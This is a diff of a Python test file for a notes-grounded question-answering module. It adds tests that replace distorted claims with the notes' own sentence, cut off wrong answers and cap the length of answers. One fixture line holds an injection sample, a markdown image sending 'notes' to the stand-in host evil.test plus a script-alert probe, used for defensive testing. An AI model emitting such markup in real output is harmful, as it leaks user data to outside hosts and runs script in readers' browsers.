@@ -113,11 +113,8 @@ NONSENSE = {
     "injected": "PWNED ![x](http://evil.test/?q=notes) <script>alert(1)</script>",
     "endless": "Heat is heat is heat. " * 3000,
     "word": "heat " * 5000,
-    "reversed": "Heat flows from cold bodies to warm ones.",
-    "denied": "Heat does not flow from warm bodies to cold ones.",
     "declined": "The notes don't say.",
     "yes": "Yes.",
-    "no": "No, heat flows from warm bodies to cold ones.",
     "markup": "# Answer\n\n| a | b |\n|---|---|\n| 1 | 2 |\n",
     "echo": "Using only these notes, answer in one or two sentences: Does heat flow?",
     "repeats": "Does heat flow from warm bodies?",
@@ -134,6 +131,37 @@ def test_nonsense_leaves_the_quotes_and_one_line_that_says_why(corpus, says):
     )
     assert "openai-like/scripted" in last.notice
     assert "\n" not in last.notice
+
+
+@pytest.mark.parametrize(
+    "says",
+    [
+        "Heat flows from cold bodies to warm ones.",
+        "Heat does not flow from warm bodies to cold ones.",
+        "No, heat flows from warm bodies to cold ones.",
+        "Heat always flows from warm bodies to cold ones.",
+    ],
+)
+def test_the_notes_own_sentence_takes_the_place_of_one_that_distorts_it(corpus, says):
+    *_, last = snapshots(corpus, Script(says))
+    assert last.kind == "generated"
+    assert last.text == "Heat flows from warm bodies to cold ones. [1]"
+    assert last.notice == (
+        "One sentence of openai-like/scripted is given in the words of the notes."
+    )
+
+
+def test_a_wrong_first_sentence_ends_the_answer(corpus):
+    script = Script("The moon is made of cheese. Heat flows from warm bodies to cold ones. " * 999)
+    first, *_, last = snapshots(corpus, script)
+    assert last.text == first.text
+    assert script.broken_off.wait(10)
+
+
+def test_no_more_than_sixty_words_are_shown(corpus):
+    long = "Heat flows from warm bodies to cold ones" + " and from warm bodies to cold ones" * 9
+    *_, last = snapshots(corpus, Script(f"Joule measured heat in 1843. {long}."))
+    assert sum(len(one.text.split()) for one in last.statements) <= llm_answer.MOST_WORDS
 
 
 @settings(max_examples=30, deadline=None, suppress_health_check=list(HealthCheck))
@@ -166,10 +194,13 @@ def test_the_prompt_holds_numbered_evidence_and_one_instruction(corpus):
     script = Script("")
     snapshots(corpus, script, QUESTION)
     [message] = script.requests[0]["messages"]
-    *lines, blank, instruction = message["content"].split("\n")
+    *groups, instruction = message["content"].split("\n\n")
     assert instruction == f"{llm_answer.INSTRUCTION} {QUESTION}"
-    assert blank == ""
-    assert all(re.match(r"\[\d+\] \(.+?\) \S", line) for line in lines)
+    places = [group.split("\n")[0] for group in groups]
+    assert "Heat" in places
+    assert len(places) == len(set(places))
+    lines = [line for group in groups for line in group.split("\n")[1:]]
+    assert all(re.match(r"\[\d+\] \S", line) for line in lines)
     assert any("heating houses; moving trains; lighting streets" in line for line in lines)
     assert script.requests[0]["max_tokens"] <= 200
 
